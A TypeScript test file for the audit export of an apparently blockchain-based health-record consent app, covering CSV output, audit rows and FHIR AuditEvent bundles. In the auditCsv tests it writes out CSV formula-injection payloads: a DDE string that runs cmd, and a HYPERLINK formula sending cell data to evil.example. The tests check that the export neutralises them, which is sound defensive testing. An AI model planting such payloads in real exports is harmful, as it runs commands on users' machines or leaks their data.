import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Address, Hex } from 'viem';

import type { ActivityEvent } from '../chain/activity';
import { RECORD_CATEGORIES } from '../chain/categories';
import { type AuditRow, auditBundle, auditCsv, auditRows } from './audit';

const PROVIDER = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8' as Address;
const PATIENT = '0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC' as Address;

const row: AuditRow = {
  id: '0x01-0',
  timestamp: 1_700_000_000,
  group: 'consent',
  actor: PATIENT,
  counterpart: PROVIDER,
  action: 'Granted access',
  detail: 'read: medication',
  recordIds: [],
  categories: [],
  fhirAction: 'C',
  fhirSubtype: 'create',
  transactionHash: `0x${'ab'.repeat(32)}` as Hex,
};

/** The data line `auditCsv` writes when the provider is called `name`. */
function lineNaming(name: string): string {
  return auditCsv([row], (address) => (address === PROVIDER ? name : undefined)).split('\r\n')[1]!;
}

/** The data line with `cell` as written in the provider_name column. */
function lineWith(cell: string): string {
  return `2023-11-14T22:13:20.000Z,${PATIENT},,Granted access,,${PROVIDER},${cell},,,read: medication,${row.transactionHash}`;
}

describe('auditCsv', () => {
  it('writes a header and one CRLF-terminated line per row', () => {
    const csv = auditCsv([row], () => undefined);
    assert.equal(
      csv,
      'time,actor,actor_name,action,purpose,provider,provider_name,records,categories,detail,transaction\r\n' +
        `2023-11-14T22:13:20.000Z,${PATIENT},,Granted access,,${PROVIDER},,,,read: medication,${row.transactionHash}\r\n`,
    );
  });

  for (const [label, start] of [
    ['=', '='],
    ['+', '+'],
    ['-', '-'],
    ['@', '@'],
    ['a tab (0x09)', '\t'],
    ['a carriage return (0x0D)', '\r'],
  ] as const) {
    it(`neutralises a cell starting with ${label}: a single quote in front, the field quoted`, () => {
      const dde = `${start}cmd|' /C calc'!A0`;
      assert.equal(lineNaming(dde), lineWith(`"'${dde}"`));
      const link = `${start}HYPERLINK("https://evil.example/?"&A1,"Dr. Who")`;
      assert.equal(lineNaming(link), lineWith(`"'${link.replace(/"/g, '""')}"`));
    });
  }

  it('leaves other cells as they are, quoting only commas, quotes and line breaks', () => {
    assert.equal(lineNaming('Dr. Grey'), lineWith('Dr. Grey'));
    assert.equal(lineNaming('Grey, Meredith'), lineWith('"Grey, Meredith"'));
    assert.equal(lineNaming('Dr. "Mer" Grey'), lineWith('"Dr. ""Mer"" Grey"'));
    assert.equal(lineNaming('Dr. Grey\n=1+1'), lineWith('"Dr. Grey\n=1+1"'), 'not at the start: text');
  });
});

const at = (index: number) => ({
  blockNumber: BigInt(index),
  logIndex: 0,
  transactionHash: `0x${String(index).padStart(64, '0')}` as Hex,
  timestamp: 1_700_000_000 + index * 60,
});

const activity: ActivityEvent[] = [
  { ...at(1), kind: 'registered' },
  { ...at(2), kind: 'recordAdded', recordId: 1n, author: PATIENT, category: RECORD_CATEGORIES.profile, supersedes: 0n },
  { ...at(3), kind: 'recordAdded', recordId: 2n, author: PATIENT, category: RECORD_CATEGORIES.billing, supersedes: 0n },
  { ...at(4), kind: 'accessLogged', provider: PROVIDER, recordIds: [1n, 2n], purpose: 3 },
];

describe('auditRows', () => {
  it('says what was opened, in which categories, for what purpose, newest first', () => {
    const rows = auditRows(PATIENT, activity);
    assert.deepEqual(
      rows.map((each) => [each.action, each.detail]),
      [
        ['Opened 2 records', '#1, #2 (Profile, Billing & insurance) for payment'],
        ['Added a record', '#2 (Billing & insurance)'],
        ['Added a record', '#1 (Profile)'],
        ['Registered as a patient', ''],
      ],
    );
    assert.equal(rows[0]!.purpose?.coding.code, 'HPAYMT');
  });

  it('puts the purpose in its own CSV column, by the name the CLI takes', () => {
    const [read] = auditCsv(auditRows(PATIENT, activity), () => undefined)
      .split('\r\n')
      .slice(1);
    assert.match(
      read!,
      new RegExp(
        `^2023-11-14T22:17:20.000Z,${PROVIDER},,Opened 2 records,payment,,,1 2,Profile Billing & insurance,`,
      ),
    );
  });
});

describe('auditBundle', () => {
  it('is a collection of AuditEvents: who as a did:pkh, the patient and the records as entities, the purpose', () => {
    const bundle = auditBundle(auditRows(PATIENT, activity), {
      patient: PATIENT,
      chainId: 31337,
      contract: '0x5FbDB2315678afecb367f032d93F642f64180aa3',
      nameOf: (address) => (address === PROVIDER ? 'Dr. Grey' : undefined),
    });
    assert.equal(bundle.type, 'collection');
    assert.equal(bundle.entry?.length, activity.length);
    const read = bundle.entry![0]!.resource!;
    assert.equal(read.resourceType, 'AuditEvent');
    assert.equal(read.action, 'R');
    assert.deepEqual(read.subtype, [{ system: 'http://hl7.org/fhir/restful-interaction', code: 'read' }]);
    assert.deepEqual(read.agent?.[0]?.who, {
      identifier: { system: 'urn:ietf:rfc:3986', value: `did:pkh:eip155:31337:${PROVIDER}` },
      display: 'Dr. Grey',
    });
    assert.deepEqual(
      read.entity?.map((entity) => entity.what?.reference ?? entity.what?.identifier?.value),
      [`Patient/${PATIENT}`, '1', '2'],
    );
    assert.deepEqual(read.purposeOfEvent, [
      {
        coding: [
          {
            system: 'http://terminology.hl7.org/CodeSystem/v3-ActReason',
            code: 'HPAYMT',
            display: 'healthcare payment',
          },
        ],
        text: 'payment',
      },
    ]);
    assert.equal(bundle.entry![1]!.resource!.purposeOfEvent, undefined, 'only reads have a purpose');
  });
});
